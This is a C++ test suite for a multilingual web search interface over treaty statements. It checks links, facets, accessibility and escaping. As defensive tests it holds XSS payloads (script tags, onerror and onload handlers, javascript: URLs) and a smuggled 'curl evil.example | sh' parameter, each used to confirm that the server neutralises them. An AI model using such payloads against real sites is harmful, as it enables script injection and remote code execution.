// The pages over real sockets: what is on them, what they link to, and what they never hold.
#include <gtest/gtest.h>

#include <deque>
#include <map>
#include <memory>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>

#include "tests/support/served_sample.hpp"
#include "tests/support/small_index.hpp"

namespace rostrum::testing {
namespace {

using nlohmann::json;

/// As a browser reads an attribute.
std::string unescaped(std::string text) {
  const std::pair<const char*, const char*> signs[] = {
      {"&lt;", "<"}, {"&gt;", ">"}, {"&quot;", "\""}, {"&apos;", "'"}, {"&amp;", "&"}};
  for (const auto& [escaped, plain] : signs) {
    for (std::size_t at = 0; (at = text.find(escaped, at)) != std::string::npos; ++at) {
      text.replace(at, std::string_view(escaped).size(), plain);
    }
  }
  return text;
}

std::vector<std::string> all_of(const std::string& page, const char* form) {
  const std::regex wanted(form);
  std::vector<std::string> found;
  for (std::sregex_iterator each(page.begin(), page.end(), wanted), end; each != end; ++each) {
    found.push_back(unescaped((*each)[1]));
  }
  return found;
}

/// The address of the link whose text is that; "" for none.
std::string link_called(const std::string& page, const std::string& text) {
  const std::size_t end = page.find(">" + text);
  const std::size_t begin = end == std::string::npos ? end : page.rfind("href=\"", end);
  if (begin == std::string::npos) return "";
  return unescaped(page.substr(begin + 6, page.find('"', begin + 6) - begin - 6));
}

/// What holds for each page.
void expect_sound(const std::string& page, const std::string& target) {
  EXPECT_TRUE(page.starts_with("<!DOCTYPE html>")) << target;
  EXPECT_TRUE(page.ends_with("</html>\n") || page.ends_with("</html>")) << target;
  EXPECT_EQ(page.find(" style="), std::string::npos) << target;
  EXPECT_TRUE(all_of(page, R"re(<\w+(?:\s[\w-]+(?:="[^"]*")?)*?\s(on\w+)=)re").empty()) << target;
  EXPECT_EQ(all_of(page, R"(<script([^>]*)>)").size(), 1U) << target;
  EXPECT_EQ(all_of(page, R"(<h1([ >]))").size(), 1U) << target;
  std::set<std::string> ids;
  for (const std::string& id : all_of(page, R"(\sid="([^"]*)\")")) {
    EXPECT_TRUE(ids.insert(id).second) << target << " has two of id " << id;
  }
  // Each anchor on the page leads somewhere.
  for (const std::string& anchor : all_of(page, R"re(href="#([^"]*)")re")) {
    EXPECT_TRUE(ids.contains(anchor)) << target << " #" << anchor;
  }
}

class ServedPagesTest : public ServedSampleTest {
 protected:
  static std::string page(const std::string& target, int status = 200) {
    const HttpAnswer answer = server_->get(target);
    EXPECT_EQ(answer.status, status) << target;
    EXPECT_EQ(answer.headers.at("content-type"), "text/html; charset=utf-8") << target;
    expect_sound(answer.body, target);
    EXPECT_EQ(answer.body.find("{{"), std::string::npos) << target;
    return answer.body;
  }
  static bool has(const std::string& page, const std::string& text) {
    return page.find(text) != std::string::npos;
  }
};

TEST_F(ServedPagesTest, TheStartTellsWhatIsOnFile) {
  const std::string start = page("/");
  EXPECT_TRUE(has(start, "<dt>Statements</dt><dd>96</dd>"));
  EXPECT_TRUE(has(start, "Mine Ban Convention"));
  EXPECT_TRUE(has(start, "name=\"q\""));
}

TEST_F(ServedPagesTest, ResultsHaveSentencesMarksAndFacets) {
  const std::string results = page("/search?q=withdraw");
  EXPECT_TRUE(has(results, "17 of 96 statements"));
  EXPECT_TRUE(has(results, "We do not contest the right to <mark>withdraw</mark>."));
  EXPECT_TRUE(has(results, "<bdi>withdrawals</bdi>")) << "what was searched is told";
  EXPECT_TRUE(has(results, "<bdi>Austria</bdi>"));
  EXPECT_TRUE(has(results, "sample: delivered by nobody"));
}

TEST_F(ServedPagesTest, BarsOverTimeChooseTheirYear) {
  const std::string all = page("/search?q=withdraw");
  const json years = json::parse(server_->get("/api/v1/values?q=withdraw&field=year").body);
  std::size_t counted = 0;
  for (const json& each : years.at("values")) {
    const std::string year = each.at("value");
    if (year == "none") continue;
    ++counted;
    EXPECT_TRUE(has(all, "<title>" + year + ": " + std::to_string(each.at("count").get<int>())));
  }
  // Each year is reached by the keyboard in the table beside the picture.
  EXPECT_EQ(all_of(all, R"re(<a href="[^"]*year=(\d+)" tabindex="-1")re").size(), counted);
  EXPECT_EQ(all_of(all, R"re(<th scope="row"><a href="[^"]*year=(\d+)")re").size(), counted);
  const std::string one = page("/search?q=withdraw&year=2025");
  EXPECT_TRUE(
      has(one, "<a href=\"/search?q=withdraw\" tabindex=\"-1\" class=\"chosen\"><title>2025"));
  EXPECT_TRUE(has(one, "<title>2024: ")) << "the other years stay";
  EXPECT_FALSE(has(page("/search?q=withdraw&country=AUS"), "class=\"bars\""))
      << "of one year alone";
}

TEST_F(ServedPagesTest, NotesSayWhatThePageOffers) {
  const std::string coverage = page("/coverage");
  EXPECT_EQ(link_called(coverage, "What is not on file</a></p>"), "/coverage?gaps=true");
  const std::string never = page("/matrix?q=withdraw&rows=country");
  EXPECT_EQ(link_called(never, "Statements of its groups count"),
            "/matrix?q=withdraw&rows=country&with-groups=true");
  EXPECT_EQ(link_called(page("/trend?q=withdrawel"), "withdrawal"), "/trend?q=withdrawal");
  for (const char* target :
       {"/coverage", "/matrix?q=withdraw", "/changes?q=convention:NPT", "/changes?q=country:NOR",
        "/shared?q=country:CUB", "/trend?q=withdrawel", "/similar?q=npt-rc-2022-aus-2022-08-11"}) {
    std::string shown = server_->get(target).body;
    shown.erase(std::min(shown.find("<p class=\"again\">"), shown.size()));
    EXPECT_FALSE(std::regex_search(shown, std::regex("[ (]--[a-z]"))) << target;
  }
}

TEST_F(ServedPagesTest, AStatementThatIsNamedIsNotCounted) {
  const std::string similar = page("/similar?q=npt-rc-2022-aus-2022-08-11");
  EXPECT_FALSE(has(similar, "1 of 1"));
  EXPECT_EQ(link_called(similar, "<bdi>npt-rc-2022-aus-2022-08-11"),
            "/statement?id=npt-rc-2022-aus-2022-08-11");
}

TEST_F(ServedPagesTest, WhatIsNotThereIsToldOnce) {
  for (const char* target : {"/nowhere", "/statement?id=none"}) {
    EXPECT_EQ(all_of(page(target, 404), "<h[12][^>]*>(Not found)</h").size(), 1U) << target;
  }
}

TEST_F(ServedPagesTest, ValuesAreChosenTogetherAndTakenAway) {
  const std::string all = page("/search?q=withdraw");
  const std::string austria = link_called(all, "<span class=\"value\"><bdi>Austria");
  EXPECT_EQ(austria, "/search?q=withdraw&country=AUT");
  const std::string one = page(austria);
  EXPECT_TRUE(has(one, "2 of 96 statements"));
  const std::string both = link_called(one, "<span class=\"value\"><bdi>Australia");
  EXPECT_EQ(both, "/search?q=withdraw&country=AUT&country=AUS");
  const std::string two = page(both);
  EXPECT_TRUE(has(two, "3 of 96 statements"));
  EXPECT_EQ(all_of(two, R"(aria-current="true" rel="(nofollow)\")").size(), 2U);
  EXPECT_TRUE(has(two, "<a class=\"clear\" href=\"/search?q=withdraw\">"));
  // By whatever name it was chosen, it can be taken away.
  const std::string named = page("/search?q=withdraw&country=Norway&country=Austria");
  EXPECT_TRUE(has(named, "href=\"/search?q=withdraw&amp;country=Austria\" aria-current=\"true\""));
}

TEST_F(ServedPagesTest, StatementsWithoutAValueAreFound) {
  const std::string results = page("/search?q=withdraw&group=none");
  EXPECT_TRUE(has(results, "<bdi>no value</bdi>"));
  EXPECT_FALSE(has(results, "class=\"problem\""));
}

TEST_F(ServedPagesTest, AllValuesAreShownWhereTheyAreAskedFor) {
  const std::string few = page("/search");
  const std::string more = link_called(few, "Show all<span class=\"unseen\"> Country");
  ASSERT_EQ(more, "/search?more=country#facet-country");
  const std::string all = page("/search?more=country");
  EXPECT_GT(all_of(all, R"re(country=([A-Z]{3})")re").size(),
            all_of(few, R"re(country=([A-Z]{3})")re").size() + 20);
  EXPECT_EQ(link_called(all, "Show fewer"), "/search#facet-country");
}

TEST_F(ServedPagesTest, FurtherHitsAreOnPagesOfTheirOwn) {
  const std::string first = page("/search?q=withdraw");
  EXPECT_EQ(link_called(first, "Next"), "/search?q=withdraw&offset=10");
  const std::string second = page("/search?q=withdraw&offset=10");
  EXPECT_EQ(link_called(second, "Previous"), "/search?q=withdraw");
  EXPECT_TRUE(has(second, "<ol class=\"hits\" start=\"11\">"));
  EXPECT_EQ(link_called(second, "Next"), "");
}

TEST_F(ServedPagesTest, BehindTheLastHitAreNone) {
  const std::string beyond = page("/search?q=withdraw&offset=500");
  EXPECT_TRUE(has(beyond, "There are no further results."));
  EXPECT_FALSE(has(beyond, "501–500"));
  EXPECT_EQ(link_called(beyond, "To the last page"), "/search?q=withdraw&offset=10");
  EXPECT_FALSE(has(page("/search?q=nowhereatall&offset=500"), "class=\"pages\""));
  EXPECT_NE(server_->get("/api/v1/query?q=withdraw&offset=500")
                .headers.at("link")
                .find("</api/v1/query?q=withdraw&offset=10>; rel=\"prev\""),
            std::string::npos);
}

TEST_F(ServedPagesTest, AParameterThatIsNotKnownIsRefused) {
  for (const std::string path : {"/search", "/trend", "/concordance", "/coverage", "/statement"}) {
    const std::string others =
        path + (path == "/statement" ? "?id=npt-rc-2022-aus-2022-08-11" : "?country=NOR");
    const std::string mistyped = page(others + "&contry=NOR", 400);
    EXPECT_EQ(link_called(mistyped, "country</a>"), others + "&country=NOR") << path;
    EXPECT_EQ(link_called(mistyped, "Leave out: <bdi>contry"), others);
    const std::string shell = page(others + "&q=withdraw&x%3Bcurl+evil.example%7Csh%3B=1", 400);
    EXPECT_FALSE(has(shell, "<code dir")) << path;
  }
  page("/concordance?contry=NOR", 400);
  page("/search?q=withdraw&more=country&member_of=EU&any=true&ui=fr");
}

TEST_F(ServedPagesTest, TheCommandOfferedCanBeTyped) {
  EXPECT_TRUE(has(page("/trend?q=withdraw&also=-country:NOR"),
                  "<code dir=\"ltr\">rostrum-search trend --also=-country:NOR withdraw<"));
}

TEST_F(ServedPagesTest, LinesRunAsTheirKeywordDoes) {
  const auto tables = [](const std::string& shown) {
    return all_of(shown, R"re(<div class="scroll"[^>]* dir="(\w+)")re");
  };
  using Directions = std::vector<std::string>;
  const std::string arabic = "%D8%A7%D9%84%D8%A3%D9%84%D8%BA%D8%A7%D9%85";
  EXPECT_EQ(tables(page("/concordance?q=withdraw&ui=ar")), Directions{"ltr"});
  EXPECT_EQ(tables(page("/concordance?q=" + arabic)), Directions{"rtl"});
  const Directions both = tables(page("/concordance?q=withdraw+OR+" + arabic));
  EXPECT_EQ(std::set<std::string>(both.begin(), both.end()), (std::set<std::string>{"ltr", "rtl"}));
  EXPECT_EQ(both.size(), 2U);
}

TEST_F(ServedPagesTest, CodesAndNamesHaveColumnsOfTheirOwn) {
  const std::string trend = page("/trend?q=withdraw&by=country&ui=ar");
  EXPECT_TRUE(has(trend, "><bdi>AUS</bdi></td><td class=\"plain\"><a href=\"/search?"));
  EXPECT_EQ(link_called(trend, "أستراليا"), "/search?q=withdraw&country=AUS&ui=ar");
}

TEST_F(ServedPagesTest, ExamplesBelowARowHaveTheirDirections) {
  const std::string trend = page("/trend?q=withdraw&examples=1&ui=ar");
  EXPECT_TRUE(has(trend, "<a class=\"para\" dir=\"ltr\" href"));
  EXPECT_FALSE(has(trend, "<a class=\"para\" href"));
}

TEST_F(ServedPagesTest, BrowsersAreToldWholeAddresses) {
  const HttpAnswer told = server_->get("/opensearch.xml");
  const std::vector<std::string> templates = all_of(told.body, R"re(template="([^"]*)")re");
  EXPECT_EQ(templates, (std::vector<std::string>{"http://localhost/search?q={searchTerms}",
                                                 "http://localhost/api/v1/query?q={searchTerms}"}));
}

TEST_F(ServedPagesTest, AMistakeIsShownWhereItIs) {
  const std::string bracket = page("/search?q=mines+(ban", 400);
  EXPECT_TRUE(has(bracket, "<code>mines <mark>(</mark>ban</code>"));
  EXPECT_TRUE(has(bracket, "value=\"mines (ban\"")) << "the question can be mended";
  const std::string name = page("/search?q=mines&country=Norwey", 400);
  EXPECT_TRUE(has(name, "Country: no state called &apos;<bdi>Norwey</bdi>&apos;</p>")) << name;
  EXPECT_EQ(link_called(name, "Norway</a>"), "/search?q=mines&country=Norway");
  EXPECT_EQ(link_called(name, "All values"), "/search?more=country#facet-country");
  const std::string inside = page("/search?q=mines+country:Norwey", 400);
  EXPECT_EQ(link_called(inside, "Norway</a>"), "/search?q=mines%20country%3ANorway");
  EXPECT_TRUE(has(name, "href=\"/search?q=mines\">Leave out: <bdi>country</bdi>"));
  const std::string misspelt = page("/search?q=witdrawal");
  EXPECT_FALSE(link_called(misspelt, "withdrawal").empty());
}

TEST_F(ServedPagesTest, AStatementHasAnchorsMarksEvidenceAndCitation) {
  const std::string results = page("/search?q=withdraw&country=AUS");
  const std::string target = link_called(results, "¶8");
  ASSERT_TRUE(target.ends_with("#p8")) << target;
  const std::string statement = page(target.substr(0, target.find('#')));
  EXPECT_TRUE(has(statement, "id=\"p8\""));
  EXPECT_TRUE(has(statement, "<mark id=\"m1\">withdraw</mark>"));
  EXPECT_TRUE(has(statement, "Places marked: 5"));
  EXPECT_TRUE(has(statement, "id=\"citation\""));
  EXPECT_TRUE(has(statement, "heading."));
  EXPECT_EQ(server_->get(link_called(statement, "BibTeX")).status, 200);
  EXPECT_EQ(link_called(statement, "Back to the results"), "/search?q=withdraw&country=AUS");
}

TEST_F(ServedPagesTest, AStatementThatIsNotThereIsNotFound) {
  page("/statement?id=nothing-of-the-kind", 404);
  page("/statement", 400);
  page("/nowhere", 404);
  EXPECT_TRUE(has(page("/statement?id=npt-rc-2022-aus-2022-08-11&q=(", 400), "id=\"p8\""))
      << "a mistake in the words leaves it readable";
}

TEST_F(ServedPagesTest, QuotedTextTellsItsLanguageAndDirection) {
  const std::string results = page("/search?q=%D8%A7%D9%84%D8%A3%D9%84%D8%BA%D8%A7%D9%85");
  EXPECT_TRUE(has(results, "<p lang=\"ar\" dir=\"auto\">")) << results;
  const std::string chinese = page("/search?q=%E6%A0%B8");
  EXPECT_TRUE(has(chinese, "<p lang=\"zh\" dir=\"auto\">"));
}

TEST_F(ServedPagesTest, SpeaksSixLanguages) {
  for (const char* language : {"en", "fr", "es", "ru", "zh", "ar"}) {
    const std::string ui = std::string("ui=") + language;
    const std::string direction = std::string(language) == "ar" ? "rtl" : "ltr";
    const std::string frame =
        "<html lang=\"" + std::string(language) + "\" dir=\"" + direction + "\">";
    for (const std::string target :
         {"/?", "/search?q=withdraw&", "/coverage?", "/trend?q=withdraw&", "/matrix?q=withdraw&",
          "/concordance?q=withdraw&", "/compare?q=country:NOR&q=country:CHE&",
          "/statement?id=npt-rc-2022-aus-2022-08-11&q=withdraw&"}) {
      const std::string shown = page(target + ui);
      EXPECT_TRUE(has(shown, frame)) << target;
      // The choice goes along with every link of ours.
      for (const std::string& href : all_of(shown, R"re(<a [^>]*href="(/[^"]*)")re")) {
        if (href.starts_with("/api/")) continue;
        EXPECT_TRUE(href.find("ui=") != std::string::npos) << target << ' ' << href;
      }
    }
  }
  EXPECT_TRUE(has(page("/search?q=withdraw&country=AUS&ui=ru"), ">Австралия<"))
      << "states have their names";
  EXPECT_TRUE(has(page("/search?q=withdraw&country=AUS&ui=ar"), ">أستراليا<"));
  const HttpAnswer french = server_->get("/", "Accept-Language: fr-CH, en;q=0.5\r\n");
  EXPECT_EQ(french.headers.at("content-language"), "fr");
  EXPECT_EQ(french.headers.at("vary"), "Accept-Language");
  EXPECT_NE(french.headers.at("etag"), server_->get("/").headers.at("etag"));
}

TEST_F(ServedPagesTest, EachLinkLeadsSomewhere) {
  std::deque<std::string> waiting = {"/"};
  std::set<std::string> seen = {"/"};
  std::map<std::string, std::size_t> kinds;  // enough of each path
  constexpr std::size_t kOfAKind = 25;
  while (!waiting.empty()) {
    const std::string target = waiting.front();
    waiting.pop_front();
    HttpAnswer answer = server_->get(target);
    EXPECT_EQ(answer.status, 200) << target << '\n' << answer.body.substr(0, 300);
    if (!answer.headers["content-type"].starts_with("text/html")) continue;
    expect_sound(answer.body, target);
    for (std::string href : all_of(answer.body, R"re((?:href|src)="(/[^"#]*)[^"]*")re")) {
      const std::string kind = href.substr(0, href.find('?'));
      if (kinds[kind] >= kOfAKind || !seen.insert(href).second) continue;
      ++kinds[kind];
      waiting.push_back(std::move(href));
    }
  }
  for (const char* path :
       {"/search", "/statement", "/coverage", "/trend", "/matrix", "/concordance", "/collocates",
        "/ngrams", "/api/v1/export", "/api/v1/cite", "/api/v1/trend", "/static/style.css"}) {
    EXPECT_GT(kinds[path], 0U) << path;
  }
}

TEST_F(ServedPagesTest, ASearchCanBeFollowed) {
  const std::string results = page("/search?q=withdraw&country=AUS");
  const std::string target = link_called(results, "Follow this search");
  EXPECT_EQ(target, "/feed?q=withdraw&country=AUS");
  const HttpAnswer feed = server_->get(target);
  EXPECT_EQ(feed.headers.at("content-type"), "application/atom+xml; charset=utf-8");
  EXPECT_TRUE(has(feed.body, "NPT 2022 Review Conference</title>"));
  EXPECT_TRUE(has(feed.body, "<published>2022-08-11T00:00:00Z</published>"));
  EXPECT_TRUE(
      has(feed.body, "href=\"http://localhost/statement?id=npt-rc-2022-aus-2022-08-11&amp;q="));
  EXPECT_EQ(all_of(feed.body, "<(entry)>").size(), 1U);
  EXPECT_EQ(server_->get("/feed?q=(").status, 400);
}

TEST_F(ServedPagesTest, AStatementLeadsToThoseLikeIt) {
  const std::string statement = page("/statement?id=npt-rc-2022-aus-2022-08-11");
  page(link_called(statement, "Similar statements"));
  page(link_called(statement, "Shared passages"));
}

TEST_F(ServedPagesTest, AnalysesShowTheFiguresOfTheCommands) {
  const json matrix = json::parse(server_->get("/api/v1/matrix?q=withdraw").body);
  std::size_t squares = 0;
  for (const json& row : matrix.at("rows")) squares += row.at("statements") > 0 ? 1 : 0;
  const std::string shown = page("/matrix?q=withdraw");
  EXPECT_EQ(all_of(shown, R"(<td class="heat-[1-6]"><a (href))").size(), squares);
  const std::string lines = page("/concordance?q=withdraw");
  EXPECT_EQ(all_of(lines, R"(<td class="(key)\")").size(), 43U);
  const std::string trend = page("/trend?q=withdraw&by=country");
  EXPECT_TRUE(has(trend, "<img src=\"/chart/trend?q=withdraw&amp;by=country\""));
  EXPECT_TRUE(has(trend, "href=\"/search?q=withdraw&amp;country=NOR\""));
  page("/concordance");
  page("/compare?q=country:NOR&q=(", 400);
  page("/trend?q=withdraw&by=colour", 400);
}

TEST_F(ServedPagesTest, WhatABrowserKeepsIsAskedForAgain) {
  const HttpAnswer first = server_->get("/search?q=withdraw");
  const HttpAnswer again =
      server_->get("/search?q=withdraw", "If-None-Match: " + first.headers.at("etag") + "\r\n");
  EXPECT_EQ(again.status, 304);
  const std::string style = all_of(first.body, R"re(href="(/static/style\.css\?v=\w+)")re").at(0);
  EXPECT_NE(server_->get(style).headers.at("cache-control").find("immutable"), std::string::npos);
  EXPECT_EQ(server_->get("/static/../page.cpp").status, 404);
  EXPECT_EQ(server_->get("/static/").status, 404);
}

TEST_F(ServedPagesTest, StandUnderAPath) {
  const RunningServer below(index(), {"--base-url", "https://example.org/rostrum", "--quiet"});
  const std::string start = below.get("/rostrum/").body;
  for (const std::string& href : all_of(start, R"re((?:href|src|action)="(/[^"]*)")re")) {
    EXPECT_TRUE(href.starts_with("/rostrum/")) << href;
  }
  EXPECT_EQ(below.get("/rostrum/opensearch.xml").status, 200);
  EXPECT_NE(
      below.get("/opensearch.xml").body.find("https://example.org/rostrum/search?q={searchTerms}"),
      std::string::npos);
}

/// A statement and questions made to break out of a page.
constexpr const char* kHostile =
    R"json({"id": "x", "title": "<script>alert(1)</script> {{q}} {{{q}}}", )json"
    R"json("text": "Mines </p><script>alert(2)</script> \u202Eevil\u202C \"onload=alert(3)", )json"
    R"json("convention": "<img src=x onerror=alert(4)>", )json"
    R"json("delivered_by": {"label": "<svg onload=alert(5)>", "kind": "office"}, )json"
    R"json("speaker": {"name": "\"><script>alert(6)</script>", "post": "'-alert(7)-'"}, )json"
    R"json("agenda_items": [{"number": "7a", "title": "</title><script>alert(8)</script>"}], )json"
    R"json("date": "2020-01-01", "source": {"url": "javascript:alert(9)", )json"
    R"json("note": "--><script>alert(10)</script>"}})json"
    "\n";

class HostilePages : public SmallIndexTest {
 protected:
  HostilePages() : SmallIndexTest(kHostile) {}
};

TEST_F(HostilePages, NothingBreaksOut) {
  const RunningServer server(index(), {"--quiet"});
  const std::string naughty[] = {"%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                                 "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                                 "'%20onmouseover%3D'alert(1)",
                                 "%7B%7Bq%7D%7D%7B%7B%7Bq%7D%7D%7D",
                                 "javascript%3Aalert(1)",
                                 "%E2%80%AEevil",
                                 "%3C!--",
                                 "%26lt%3Bscript%26gt%3B"};
  std::vector<std::string> targets = {"/",
                                      "/search",
                                      "/search?q=mines",
                                      "/statement?id=x&q=mines",
                                      "/coverage",
                                      "/trend",
                                      "/matrix?rows=convention&columns=year",
                                      "/concordance?q=mines",
                                      "/ngrams?least=1&statements=1",
                                      "/search?more=convention&more=item&more=country"};
  for (const std::string& each : naughty) {
    targets.push_back("/" + each);
    for (const char* path :
         {"/search", "/coverage", "/trend", "/matrix", "/concordance", "/compare", "/statement"}) {
      for (const char* name : {"q", "country", "from", "sort", "offset", "more", "ui", "id", "by",
                               "also", "rows", "beside"}) {
        targets.push_back(std::string(path) + "?" + name + "=" + each + "&q=mines");
      }
      targets.push_back(std::string(path) + "?" + each + "=1");
    }
  }
  for (const std::string& target : targets) {
    const HttpAnswer answer = server.get(target);
    EXPECT_LT(answer.status, 500) << target;
    ASSERT_GT(answer.status, 0) << target;
    expect_sound(answer.body, target);
    EXPECT_EQ(answer.body.find("<script>"), std::string::npos) << target;
    EXPECT_EQ(answer.body.find("<img src=x"), std::string::npos) << target;
    EXPECT_EQ(answer.body.find("<svg onload"), std::string::npos) << target;
    EXPECT_EQ(answer.body.find("\u202E"), std::string::npos) << target;
    for (const std::string& href : all_of(answer.body, R"re((?:href|src|action)="([^"]*)")re")) {
      EXPECT_TRUE(href.starts_with("/") || href.starts_with("#")) << target << ' ' << href;
    }
  }
}

}  // namespace
}  // namespace rostrum::testing
